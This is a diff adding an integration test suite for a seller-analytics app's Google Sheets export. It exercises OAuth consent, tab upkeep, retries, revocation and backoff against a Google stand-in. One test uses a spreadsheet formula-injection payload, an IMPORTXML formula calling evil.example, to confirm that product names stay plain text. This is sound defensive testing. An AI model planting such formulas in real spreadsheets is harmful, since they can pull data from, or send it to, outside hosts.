@@ -1,0 +1,407 @@
+import { sql } from 'kysely';
+import { afterAll, beforeEach, expect, test } from 'vitest';
+import * as z from 'zod/mini';
+import { dayMs, hourMs, minuteMs } from '@app/shared/base/time.ts';
+import { googleSheetsAuthorizationUrl, googleSheetsStatus } from '@app/shared/contract/google-sheets.ts';
+import { authorizations, revokeAuthorization } from '@app/shared/contract/sellers.ts';
+import { startStandIn } from '../../../../scripts/processes/stand-in.ts';
+import { testApi, type Owner } from '../../../testing/http/api.ts';
+import { sendMessages } from '../../../testing/mails/send-messages.ts';
+import { failuresUntilError } from '../connections/standing.ts';
+import { tellOfBreaks } from '../connections/tell-of-breaks.ts';
+import { pushDueSheets } from './push-due-sheets.ts';
+import { tabs, type TabId } from './content/tabs.ts';
+
+const standIn = await startStandIn({ speedup: 1000 });
+afterAll(() => standIn.stop());
+const googleVariables = Object.entries(standIn.environment).filter(([name]) => name.startsWith('GOOGLE_'));
+/** The stand-in sends browsers back to addresses of this machine only. */
+const api = testApi({
+  environment: { ...Object.fromEntries(googleVariables), PUBLIC_URL: 'http://127.0.0.1:4000' },
+});
+let owner: Owner;
+let sellerAccountId: string;
+/** Another Google account for each test would need as many accounts; instead each test has its own spreadsheet. */
+const email = 'sheets@brightkeel.example';
+
+const spreadsheets = z.array(
+  z.object({
+    spreadsheetId: z.string(),
+    owner: z.string(),
+    title: z.string(),
+    tabs: z.array(
+      z.object({
+        sheetId: z.int(),
+        title: z.string(),
+        rowCount: z.int(),
+        columnCount: z.int(),
+        frozenRowCount: z.int(),
+        rows: z.array(z.array(z.nullable(z.union([z.string(), z.number(), z.boolean()])))),
+      }),
+    ),
+  }),
+);
+
+beforeEach(async () => {
+  await standIn.control('POST', '/sandbox/google', { type: 'requestsFail', of: 'sheets', answer: 503, count: 0 });
+  // The work of a test does not include the connections of the tests before it.
+  await sql`delete from connections`.execute(api.worker.global);
+  owner = await api.owner();
+  sellerAccountId = await idOf(sql`
+    insert into seller_accounts (
+      tenant_id, selling_partner_id, region, name, refresh_token, token_last6, created_at, authorized_at, version
+    )
+    values (${owner.tenantId}, 'A1SELLER', 'NA', 'Brightkeel US', 'k1.x', 'x', ${api.clock.now()}, ${api.clock.now()}, 1)
+    returning seller_account_id as id`);
+  await addProduct('B0KETTLE01', 'Kettle');
+});
+
+const idOf = async (statement: ReturnType<typeof sql>): Promise<string> => {
+  const { rows } = await statement.execute(api.worker.global);
+  return z.object({ id: z.string() }).parse(rows[0]).id;
+};
+const addProduct = (asin: string, name: string): Promise<string> =>
+  idOf(sql`
+    insert into products (
+      tenant_id, seller_account_id, marketplace, asin, name, is_active, is_tracked, version, created_at, price_cents,
+      currency, in_stock_qty
+    )
+    values (${owner.tenantId}, ${sellerAccountId}, 'US', ${asin}, ${name}, true, true, 1, ${api.clock.now()}, 3490, 'USD', 7)
+    returning product_id as id`);
+const rename = (name: string) =>
+  sql`update products set name = ${name} where tenant_id = ${owner.tenantId}`.execute(api.worker.global);
+
+interface Decision {
+  readonly account?: string;
+  readonly drive?: string;
+  readonly decision?: string;
+}
+
+/** Gives the consent on Google's page and returns the page of the product that the browser ends at. */
+async function consent({ account = email, drive = 'on', decision = 'continue' }: Decision = {}): Promise<string> {
+  const { authorizationUrl } = await owner.call(googleSheetsAuthorizationUrl);
+  expect((await fetch(authorizationUrl)).status).toBe(200);
+  const url = new URL(authorizationUrl);
+  const body = new URLSearchParams(url.searchParams);
+  body.set('account', account);
+  body.set('decision', decision);
+  if (drive) body.set('drive', drive);
+  const answer = await fetch(`${url.origin}${url.pathname}`, { method: 'POST', body, redirect: 'manual' });
+  const back = new URL(answer.headers.get('location') ?? '');
+  const { headers } = await owner.request({ method: 'GET', url: `${back.pathname}${back.search}` });
+  return String(headers.location);
+}
+
+const work = async (): Promise<void> => {
+  const { google } = api.ctx;
+  if (!google) throw new Error('The stand-in is configured as Google');
+  await pushDueSheets({ ...api.ctx, db: api.worker, google });
+};
+const anHourLater = async (): Promise<void> => {
+  api.clock.advance(hourMs + minuteMs);
+  await work();
+};
+const status = () => owner.call(googleSheetsStatus);
+const happen = (event: object) => standIn.control('POST', '/sandbox/google', event);
+const fileNow = async () => {
+  const { spreadsheetId } = await status();
+  const all = spreadsheets.parse(await standIn.control('GET', '/sandbox/google'));
+  const file = all.find((one) => one.spreadsheetId === spreadsheetId);
+  if (!file || spreadsheetId === null) throw new Error('There is no spreadsheet');
+  return file;
+};
+const sheetIdOf = (id: TabId): number => tabs.find((tab) => tab.id === id)?.sheetId ?? 0;
+const tabNow = async (id: TabId) => {
+  const tab = (await fileNow()).tabs.find(({ sheetId }) => sheetId === sheetIdOf(id));
+  if (!tab) throw new Error(`There is no tab ${id}`);
+  return tab;
+};
+const rowsOf = async (id: TabId) => (await tabNow(id)).rows.slice(2);
+const names = async () => (await rowsOf('products')).map((row) => row[3]);
+
+async function connect(): Promise<void> {
+  expect(await consent()).toBe('/settings?connected=googleSheets');
+  await work();
+}
+
+test('before anything is connected the status says so', async () => {
+  expect(await status()).toMatchObject({
+    enabled: false,
+    email: null,
+    spreadsheetId: null,
+    connectionError: null,
+    available: true,
+    connection: null,
+  });
+});
+
+test('after the consent the e-mail is pending until the first rows are written into a spreadsheet of ours', async () => {
+  expect(await consent()).toBe('/settings?connected=googleSheets');
+  expect(await status()).toMatchObject({ enabled: true, email: 'pending', connection: { state: 'pending' } });
+
+  await work();
+
+  expect(await status()).toMatchObject({
+    enabled: true,
+    email,
+    spreadsheetId: expect.any(String),
+    connectionError: null,
+    connection: { state: 'connected', lastSuccessAt: api.clock.now().getTime() / 1000 },
+  });
+  const { title, tabs: written } = await fileNow();
+  expect(title).toBe('Watchpost: Analytical Engines');
+  expect(written.map((tab) => tab.title)).toEqual([
+    'Products',
+    'Alerts (30 days)',
+    'Sales by day',
+    'Stock',
+    'Freshness',
+  ]);
+  expect(await rowsOf('products')).toEqual([
+    ['US', 'B0KETTLE01', 'Brightkeel US', 'Kettle', '', 34.9, 'USD', '', '', '', '', 0, 0],
+  ]);
+  expect(await rowsOf('stock')).toEqual([['US', 'B0KETTLE01', 'Brightkeel US', 'Kettle', 7, '', '', '']]);
+});
+
+const text = (at: Date) => at.toISOString().slice(0, 16).replace('T', ' ');
+
+test('the header stays in view and says when the tab was updated and when its source was read', async () => {
+  const checkedAt = new Date(api.clock.now().getTime() - 5 * minuteMs);
+  await sql`
+    insert into sweeps (tenant_id, seller_account_id, marketplace, source, due_at, confirmed_at)
+    values (${owner.tenantId}, ${sellerAccountId}, 'US', 'catalog-items', ${checkedAt}, ${checkedAt})`.execute(
+    api.worker.global,
+  );
+  await connect();
+
+  const { rows, frozenRowCount, rowCount } = await tabNow('products');
+  expect(rows[0]?.[0]).toBe(`Updated ${text(api.clock.now())}, source ${text(checkedAt)} (UTC)`);
+  expect(rows[1]?.slice(0, 4)).toEqual(['Marketplace', 'ASIN', 'Seller', 'Name']);
+  expect({ frozenRowCount, rowCount }).toEqual({ frozenRowCount: 2, rowCount: 3 });
+  expect(await rowsOf('freshness')).toEqual([
+    ['Brightkeel US', 'US', 'catalog-items', expect.any(String), text(checkedAt), expect.any(Number), 'no'],
+  ]);
+});
+
+test('alerts of the last 30 days stand in the sheet, newest first', async () => {
+  const productId = await addProduct('B0PAN00001', 'Pan');
+  const alert = (message: string, daysAgo: number, isSilent = false) =>
+    sql`
+      insert into flips (
+        tenant_id, at, item_id, revision, product_id, type, from_status, to_status, colour, message, evidence, is_silent
+      )
+      values (${owner.tenantId}, ${new Date(api.clock.now().getTime() - daysAgo * dayMs)}, ${message}, 1, ${productId},
+              'lostBuybox', 0, 2, 'RED', ${message}, '[]', ${isSilent})`.execute(api.worker.global);
+  await alert('older', 3);
+  await alert('newer', 1);
+  await alert('unspoken', 1, true);
+  await alert('too old', 31);
+  await connect();
+
+  expect((await rowsOf('alerts')).map((row) => [row[1], row[4], row[7]])).toEqual([
+    ['Alert', 'B0PAN00001', 'newer'],
+    ['Alert', 'B0PAN00001', 'older'],
+  ]);
+});
+
+test('the grid is cut to the rows, and fewer rows leave nothing behind', async () => {
+  const productId = await addProduct('B0PAN00001', 'Pan');
+  await connect();
+  expect(await names()).toEqual(['Kettle', 'Pan']);
+
+  await sql`update products set is_tracked = false where tenant_id = ${owner.tenantId} and product_id = ${productId}`.execute(
+    api.worker.global,
+  );
+  await anHourLater();
+  expect([await names(), (await tabNow('products')).rowCount]).toEqual([['Kettle'], 3]);
+
+  await sql`update products set is_tracked = false where tenant_id = ${owner.tenantId}`.execute(api.worker.global);
+  await anHourLater();
+  expect(await names()).toEqual(['']);
+});
+
+test('texts stay texts: no formula, no cell that Google refuses', async () => {
+  await rename(`=IMPORTXML("http://evil.example","//a")`);
+  await connect();
+  expect(await names()).toEqual([`=IMPORTXML("http://evil.example","//a")`]);
+
+  await rename('x'.repeat(60_000));
+  await anHourLater();
+  expect(await names()).toEqual(['x'.repeat(50_000)]);
+});
+
+test('a catalogue of several megabytes is written in slices', async () => {
+  await sql`
+    insert into products (tenant_id, seller_account_id, marketplace, asin, name, is_active, is_tracked, version, created_at)
+    select ${owner.tenantId}, ${sellerAccountId}, 'US', 'B1' || lpad(n::text, 8, '0'), repeat('ü', 1000), true, true, 1,
+           ${api.clock.now()}
+      from generate_series(1, 2500) n`.execute(api.worker.global);
+
+  await connect();
+
+  expect(await names()).toHaveLength(2501);
+  expect((await rowsOf('stock')).at(-1)?.[1]).toBe('B100002500');
+});
+
+test('rows are written again only where they changed', async () => {
+  await connect();
+  const file = await fileNow();
+  await anHourLater();
+  expect((await status()).connection?.lastSuccessAt).toBe(api.clock.now().getTime() / 1000);
+  expect(await fileNow()).toEqual(file);
+
+  await rename('Teapot');
+  await anHourLater();
+  expect(await names()).toEqual(['Teapot']);
+});
+
+test('renamed tabs are found, deleted ones are made anew, and tabs of the user are left alone', async () => {
+  await connect();
+  const { spreadsheetId } = await fileNow();
+  await happen({ type: 'tabRenamed', spreadsheetId, sheetId: sheetIdOf('products'), title: "Tom's list" });
+  await happen({ type: 'tabDeleted', spreadsheetId, sheetId: sheetIdOf('stock') });
+  await happen({ type: 'tabAdded', spreadsheetId, sheetId: 7, title: 'stock' });
+  await rename('Teapot');
+
+  await anHourLater();
+
+  expect((await fileNow()).tabs.map(({ title }) => title)).toEqual([
+    "Tom's list",
+    'Alerts (30 days)',
+    'Sales by day',
+    'Freshness',
+    'stock',
+    'Stock (Watchpost)',
+  ]);
+  expect(await names()).toEqual(['Teapot']);
+  expect((await rowsOf('stock'))[0]?.[3]).toBe('Teapot');
+  expect((await fileNow()).tabs.find(({ sheetId }) => sheetId === 7)?.rows).toEqual([]);
+});
+
+test.each([1, 2, 3, 4, 5])(
+  'after a push that dies behind its step %i the sheet ends equal to the database',
+  async (passed) => {
+    await connect();
+    await rename('Teapot');
+    // All attempts of the next request fail.
+    await happen({ type: 'requestsFail', of: 'sheets', answer: 503, count: 4, after: passed });
+    await anHourLater();
+    expect((await status()).connection?.lastSuccessAt).toBeLessThan(api.clock.now().getTime() / 1000);
+
+    // The database is again as it was at the last success.
+    await rename('Kettle');
+    await anHourLater();
+
+    expect(await names()).toEqual(['Kettle']);
+    expect((await rowsOf('stock')).map((row) => row[3])).toEqual(['Kettle']);
+  },
+);
+
+test('a deleted file is an error, and the next consent makes a new one', async () => {
+  await connect();
+  const { spreadsheetId } = await fileNow();
+  await happen({ type: 'fileDeleted', spreadsheetId });
+  await anHourLater();
+  expect(await status()).toMatchObject({
+    connectionError: expect.stringContaining('deleted'),
+    connection: { state: 'error', nextTryAt: null },
+  });
+
+  await connect();
+
+  expect((await fileNow()).spreadsheetId).not.toBe(spreadsheetId);
+  expect(await status()).toMatchObject({ connectionError: null, connection: { state: 'connected' } });
+});
+
+test('the same account keeps its spreadsheet when it connects again, and another account gets one of its own', async () => {
+  await connect();
+  const { spreadsheetId } = await fileNow();
+  await connect();
+  expect((await fileNow()).spreadsheetId).toBe(spreadsheetId);
+
+  await consent({ account: 'books@brightkeel.example' });
+  await work();
+
+  expect((await fileNow()).spreadsheetId).not.toBe(spreadsheetId);
+  expect((await fileNow()).owner).toBe('books@brightkeel.example');
+});
+
+test('an access that was taken back is shown, mailed once and ends the work until the owner connects again', async () => {
+  await connect();
+  await happen({ type: 'accessRevoked', email });
+  await anHourLater();
+  await anHourLater();
+
+  for (let turn = 0; turn < 2; turn += 1) {
+    await tellOfBreaks({ ...api.ctx, db: api.worker });
+    await sendMessages({ ...api.ctx, db: api.worker });
+  }
+  expect(await status()).toMatchObject({
+    enabled: true,
+    email,
+    connectionError: expect.stringContaining('connect again'),
+    connection: { state: 'error', nextTryAt: null },
+  });
+  const subject = 'The connection to Google Sheets does not work';
+  expect(api.mails.filter((mail) => mail.to === owner.email && mail.subject === subject)).toHaveLength(1);
+
+  await connect();
+  expect(await status()).toMatchObject({ connectionError: null, connection: { state: 'connected' } });
+});
+
+test('a token that Google does not know any more is refreshed in the middle of a push', async () => {
+  await connect();
+  await happen({ type: 'accessExpired' });
+  await rename('Teapot');
+  api.clock.advance(59 * minuteMs);
+  await sql`update connections set next_try_at = ${api.clock.now()}, access_expires_at = ${new Date(api.clock.now().getTime() + hourMs)}
+             where tenant_id = ${owner.tenantId}`.execute(api.worker.global);
+  await work();
+
+  expect(await names()).toEqual(['Teapot']);
+});
+
+test.each([429, 503])('status %i backs off, shows as an error only when it lasts, and passes', async (answer) => {
+  await connect();
+  await happen({ type: 'requestsFail', of: 'sheets', answer, count: 1000 });
+  for (let failure = 1; failure < failuresUntilError; failure += 1) await anHourLater();
+  expect((await status()).connection).toMatchObject({ state: 'connected', nextTryAt: expect.any(Number) });
+  await anHourLater();
+  expect((await status()).connection).toMatchObject({ state: 'error', nextTryAt: expect.any(Number) });
+
+  await happen({ type: 'requestsFail', of: 'sheets', answer, count: 0 });
+  await anHourLater();
+
+  expect((await status()).connection).toMatchObject({ state: 'connected' });
+});
+
+test('a consent that was denied or half ticked connects nothing', async () => {
+  expect(await consent({ decision: 'cancel' })).toContain('connectionError=connectionDenied');
+  expect(await consent({ drive: '' })).toContain('connectionError=connectionIncomplete');
+  expect(await status()).toMatchObject({ enabled: false });
+});
+
+test('revoking the application ends the access at Google, forgets the tokens and leaves the spreadsheet to its user', async () => {
+  await connect();
+  const { spreadsheetId } = await fileNow();
+  const listed = (await owner.call(authorizations)).authorizations;
+  expect(listed).toMatchObject([{ name: 'Google Sheets' }]);
+  expect((await status()).authorizationId).toBe(listed[0]?.id);
+
+  await owner.call(revokeAuthorization, { params: { id: listed[0]?.id ?? '' } });
+
+  expect(await status()).toMatchObject({ enabled: false, spreadsheetId: null });
+  expect((await owner.call(authorizations)).authorizations).toEqual([]);
+  const kept = await sql`select 1 from connections c where c.tenant_id = ${owner.tenantId}`.execute(api.worker.global);
+  expect(kept.rows).toEqual([]);
+  const all = spreadsheets.parse(await standIn.control('GET', '/sandbox/google'));
+  expect(all.map((file) => file.spreadsheetId)).toContain(spreadsheetId);
+});
+
+test('nothing is pushed while the service of the tenant is off', async () => {
+  await consent();
+  await sql`update tenants set is_served = false where tenant_id = ${owner.tenantId}`.execute(api.worker.global);
+  await anHourLater();
+
+  expect(await status()).toMatchObject({ email: 'pending', spreadsheetId: null });
+});
